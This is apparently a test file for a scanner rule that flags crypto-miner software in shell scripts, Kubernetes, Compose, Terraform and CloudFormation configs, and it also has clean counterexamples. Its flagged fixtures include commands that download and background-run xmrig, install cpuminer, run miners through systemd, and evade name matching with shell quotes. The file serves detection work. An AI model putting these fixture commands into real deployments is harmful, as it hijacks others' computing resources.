import rule from '../../../src/engine/rules/crypto-miner-software';
import { ruleTester } from '../rule-tester';

const id = 'AUP-MIN-001';

ruleTester.run(rule, {
	flagged: [
		{
			name: 'a miner whose name is split by shell quotes, as the shell joins it back',
			path: 'scripts/bootstrap.sh',
			source: `#!/bin/bash
set -euo pipefail
cd /opt/app
nohup ./x"m"rig --donate-level 1 -o 10.0.0.5:3333 &
`,
			findings: [{ ruleId: id, line: 3, character: 6, endLine: 3, endCharacter: 15, text: './x"m"rig', message: /runs the crypto miner xmrig/ }],
		},
		{
			name: 'an XMRig image in a Kubernetes Deployment',
			path: 'k8s/worker.yaml',
			source: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: batch-worker
spec:
  replicas: 3
  selector:
    matchLabels: { app: batch-worker }
  template:
    metadata:
      labels: { app: batch-worker }
    spec:
      containers:
        - name: worker
          image: metal3d/xmrig:latest
          resources:
            limits: { cpu: "4" }
`,
			findings: [{ ruleId: id, line: 14, character: 25, endLine: 14, endCharacter: 30, text: 'xmrig', message: /^Container image 'metal3d\/xmrig:latest' \('image' of Deployment 'batch-worker'\) is the crypto miner xmrig/ }],
		},
		{
			name: 'a CUDA build of XMRig as a Compose service image',
			path: 'docker-compose.yml',
			source: `services:
  web:
    image: nginx:1.27
    ports: ["80:80"]
  gpu-job:
    image: minerboy/xmrig-cuda:6.21.0
    deploy:
      resources:
        reservations:
          devices: [{ capabilities: [gpu] }]
`,
			findings: [{ ruleId: id, line: 5, character: 20, endLine: 5, endCharacter: 25, text: 'xmrig' }],
		},
		{
			name: 'user data that downloads XMRig and starts it in the background',
			path: 'main.tf',
			source: `resource "aws_instance" "build" {
  ami           = "ami-0c55b159cbfafe1f0"
  instance_type = "c5.4xlarge"

  user_data = <<-EOT
    #!/bin/bash
    cd /opt
    wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz
    tar xzf xmrig-6.21.0-linux-static-x64.tar.gz
    nohup ./xmrig-6.21.0/xmrig --config /opt/config.json > /dev/null 2>&1 &
  EOT
}
`,
			findings: [
				{ ruleId: id, line: 7, character: 31, endLine: 7, endCharacter: 36, text: 'xmrig', message: /^This wget command \('user_data' of aws_instance\.build\) fetches or installs the crypto miner xmrig/ },
				{ ruleId: id, line: 9, character: 25, endLine: 9, endCharacter: 30, text: 'xmrig', message: /^This command \('user_data' of aws_instance\.build\) runs the crypto miner xmrig/ },
			],
		},
		{
			name: 'a cpuminer image in a CloudFormation ECS task definition',
			path: 'stack.yaml',
			source: `AWSTemplateFormatVersion: '2010-09-09'
Resources:
  WorkerTask:
    Type: AWS::ECS::TaskDefinition
    Properties:
      Family: worker
      Cpu: '4096'
      Memory: '8192'
      ContainerDefinitions:
        - Name: worker
          Image: docker.io/pmietlicki/cpuminer-opt:v3.23
          Essential: true
`,
			findings: [{ ruleId: id, line: 10, character: 38, endLine: 10, endCharacter: 50, text: 'cpuminer-opt', message: /^Container image 'docker\.io\/pmietlicki\/cpuminer-opt:v3\.23' \('Image' of AWS::ECS::TaskDefinition 'WorkerTask'\)/ }],
		},
		{
			name: 'T-Rex run from an exec-form command, and cpuminer installed by a shell script',
			path: 'k8s/jobs.yaml',
			source: `apiVersion: batch/v1
kind: Job
metadata:
  name: render
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
        - name: render
          image: nvidia/cuda:12.4.0-base-ubuntu22.04
          command: ["/opt/t-rex/t-rex", "-a", "kawpow", "--no-watchdog"]
---
apiVersion: batch/v1
kind: CronJob
metadata:
  name: nightly
spec:
  schedule: "0 2 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: OnFailure
          containers:
            - name: nightly
              image: ubuntu:22.04
              command: ["/bin/sh", "-c"]
              args:
                - apt-get update && apt-get install -y cpuminer && minerd -a cryptonight
`,
			findings: [
				{ ruleId: id, line: 11, character: 32, endLine: 11, endCharacter: 37, text: 't-rex', message: /^This command \('command' of Job 'render'\) runs the crypto miner t-rex/ },
				{ ruleId: id, line: 29, character: 55, endLine: 29, endCharacter: 63, text: 'cpuminer', message: /^This apt-get command \('args' of CronJob 'nightly'\) fetches or installs the crypto miner cpuminer/ },
				{ ruleId: id, line: 29, character: 67, endLine: 29, endCharacter: 73, text: 'minerd', message: /runs the crypto miner minerd/ },
			],
		},
		{
			name: 'lolMiner started by a systemd unit written from user data',
			path: 'gpu.tf',
			source: `resource "aws_instance" "gpu" {
  ami           = data.aws_ami.ubuntu.id
  instance_type = "g5.xlarge"
  user_data     = <<-EOF
    #!/bin/bash
    cat > /etc/systemd/system/render.service <<'UNIT'
    [Service]
    ExecStart=/opt/lolminer/lolMiner --algo ETHASH --pool \${var.endpoint}
    Restart=always
    UNIT
    systemctl enable --now render
  EOF
}
`,
			findings: [{ ruleId: id, line: 7, character: 28, endLine: 7, endCharacter: 36, text: 'lolMiner' }],
		},
		{
			name: 'an XMRig image in a Terraform Kubernetes deployment',
			path: 'k8s.tf',
			source: `resource "kubernetes_deployment" "api" {
  metadata {
    name = "api"
  }
  spec {
    template {
      metadata {
        labels = { app = "api" }
      }
      spec {
        container {
          name  = "api"
          image = "ghcr.io/someone/xmrig:v6"
        }
      }
    }
  }
}
`,
			findings: [{ ruleId: id, line: 12, character: 35, endLine: 12, endCharacter: 40, text: 'xmrig' }],
		},
	],
	clean: [
		{
			name: 'a GPU training Job',
			path: 'k8s/train.yaml',
			source: `apiVersion: batch/v1
kind: Job
metadata:
  name: train-resnet
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
        - name: trainer
          image: nvcr.io/nvidia/pytorch:24.01-py3
          command: ["python", "train.py", "--epochs", "90", "--data", "/data/imagenet"]
          resources:
            limits:
              nvidia.com/gpu: 8
`,
		},
		{
			name: "'miner' inside other words and names (data-miner, determiner, examiner)",
			path: 'docker-compose.yml',
			source: `services:
  data-miner:
    image: acme/data-miner:1.2
    command: ["examiner", "--all"]
  grammar:
    image: acme/determiner:3
    command: determiner --lang en
`,
		},
		{
			name: 'a clean-up script that kills and looks for miners',
			path: 'harden.tf',
			source: `resource "aws_instance" "web" {
  ami           = "ami-0c55b159cbfafe1f0"
  instance_type = "t3.micro"
  user_data     = <<-EOF
    #!/bin/bash
    # Remove miners left by the previous owner of this image (xmrig, minerd).
    pkill -9 -f xmrig || true
    killall minerd 2>/dev/null
    if grep -qs xmrig /proc/*/cmdline; then echo "miner found" | logger; fi
  EOF
}
`,
		},
		{
			name: 'a miner named only in tags, a description and a YAML comment',
			path: 'stack.yaml',
			source: `AWSTemplateFormatVersion: '2010-09-09'
Description: Blocks xmrig and other miners at the egress proxy
Resources:
  # image: xmrig/xmrig was removed from this stack
  Proxy:
    Type: AWS::EC2::Instance
    Properties:
      ImageId: ami-0c55b159cbfafe1f0
      Tags:
        - Key: Purpose
          Value: block xmrig traffic
`,
		},
		{
			name: 'an image from a variable whose name mentions a miner',
			path: 'ecs.tf',
			source: `resource "kubernetes_pod" "scan" {
  metadata {
    name = "scan"
  }
  spec {
    container {
      name  = "scan"
      image = "\${var.xmrig_detector_image}"
    }
  }
}
`,
		},
		{
			name: 'a registry host and an image tag that look like miners',
			path: 'docker-compose.yaml',
			source: `services:
  api:
    image: xmrig.registry.example.com/acme/api:1.4
  legacy:
    image: acme/legacy:xmrig-compatible
`,
		},
	],
});
